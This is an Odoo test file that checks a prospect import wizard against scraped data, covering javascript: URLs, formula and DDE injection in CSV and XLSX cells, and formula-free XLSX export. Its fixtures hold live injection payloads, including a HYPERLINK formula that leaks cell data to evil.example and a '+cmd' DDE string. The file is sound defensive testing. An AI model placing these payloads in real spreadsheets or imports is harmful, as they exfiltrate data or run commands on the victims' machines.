import json
import zipfile
from io import BytesIO

import openpyxl

from odoo.http import Request
from odoo.tests import HttpCase, tagged

from .import_common import HEADER, ImportCase, csv_bytes


@tagged("post_install", "-at_install")
class TestImportSafety(ImportCase):
    """Scraped files: links that run script and cells that run formulas."""

    def test_script_urls_are_refused_rows(self):
        self.company.gdpr_allowed_field_ids = [(4, self.env.ref("base.field_res_partner__website").id)]
        data = csv_bytes(
            [
                ["Name", "Email", "Source URL", "Website", "Job title"],
                ["Good One", "good@example.com", "https://directory.example/good", "https://good.example", "CEO"],
                ["Script Url", "script@example.com", "javascript:alert(1)", "", "CEO"],
                ["Script Site", "site@example.com", "", "javascript:alert(1)", "CEO"],
                ["Data Url", "data@example.com", "data:text/html,x", "", "CEO"],
            ]
        )
        wizard = self.wizard(data)
        wizard.action_import()
        self.assertEqual(wizard.state, "rejected")
        self.assertFalse(self.prospects(), "nothing is half imported")
        self.assertEqual(
            self.report_rows(wizard),
            [
                ["3", "Rejected", "invalid source URL"],
                ["4", "Rejected", "invalid website: only a web address starting with http:// or https://"],
                ["5", "Rejected", "invalid source URL"],
            ],
        )
        wizard = self.wizard(data, import_valid_only=True)
        wizard.action_import()
        self.assertEqual(self.prospects().mapped("website"), ["https://good.example"])

    def test_formulas_are_stored_neutralised(self):
        rows = [
            HEADER,
            [
                '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
                "jeanne@example.com",
                "+cmd|' /C calc'!A0",
                "@Evil Corp",
                "+33 1 23 45 67 89",
                "https://directory.example/jm",
                "",
            ],
            ["-Paul", "paul@example.com", "Buyer", "Globex", "", "", ""],
        ]
        book = openpyxl.Workbook()
        for row in rows:
            book.active.append(row)
        for cells in book.active.iter_rows():
            for cell in cells:
                cell.data_type = "s"  # text cells, as a scraper writes them, not formulas
        buffer = BytesIO()
        book.save(buffer)
        for data, name in ((csv_bytes(rows), "prospects.csv"), (buffer.getvalue(), "prospects.xlsx")):
            with self.subTest(file=name):
                wizard = self.wizard(data, file_name=name)
                wizard.action_import()
                self.assertEqual(wizard.state, "done", wizard.report_html)
                jeanne = self.prospects(["jeanne@example.com"])
                self.assertEqual(jeanne.name, '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")')
                self.assertEqual(jeanne.function, "'+cmd|' /C calc'!A0")
                self.assertEqual(jeanne.parent_id.name, "'@Evil Corp")
                self.assertEqual(jeanne.phone, "+33123456789", "a phone number is not text")
                self.assertEqual(jeanne.email, "jeanne@example.com")
                self.assertEqual(jeanne.gdpr_source_url, "https://directory.example/jm")
                self.assertEqual(self.prospects(["paul@example.com"]).name, "'-Paul")
                self.prospects().unlink()


@tagged("post_install", "-at_install")
class TestExportHasNoFormula(ImportCase, HttpCase):
    """Odoo 18's XLSX export writes a cell that starts with = as a formula
    (xlsxwriter's strings_to_formulas is on): what we store never is one."""

    def export_xlsx(self, partners):
        self.authenticate(self.dpo.login, self.dpo.login)
        data = {
            "model": "res.partner",
            "fields": [{"name": "name", "label": "Name", "type": "char"}],
            "ids": partners.ids,
            "domain": [],
            "groupby": [],
            "import_compat": False,
        }
        response = self.url_open("/web/export/xlsx", data={"data": json.dumps(data), "csrf_token": self.csrf()})
        self.assertEqual(response.status_code, 200, response.text[:300])
        return response.content

    def csrf(self):
        # the token of the session authenticate() opened, made as a page would
        return Request.csrf_token(self)

    def test_export(self):
        wizard = self.wizard(
            csv_bytes(
                [["Name", "Email", "Job title"], ['=HYPERLINK("https://evil.example","x")', "a@example.com", "CEO"]]
            )
        )
        wizard.action_import()
        imported = self.prospects(["a@example.com"])
        # the control: the same text stored as it came is exported as a formula
        raw = self.make_prospect(name="Raw", email="raw@example.com")
        self.env.cr.execute(
            "UPDATE res_partner SET name = %s WHERE id = %s", ['=HYPERLINK("https://evil.example","x")', raw.id]
        )
        self.env.invalidate_all()
        content = self.export_xlsx(imported | raw)
        with zipfile.ZipFile(BytesIO(content)) as book:
            sheet = book.read("xl/worksheets/sheet1.xml").decode()
        self.assertEqual(sheet.count("<f>"), 1, "only the raw control is a formula")
        cells = {row[0].value for row in openpyxl.load_workbook(BytesIO(content)).active.iter_rows(min_row=2)}
        self.assertIn('\'=HYPERLINK("https://evil.example","x")', cells)
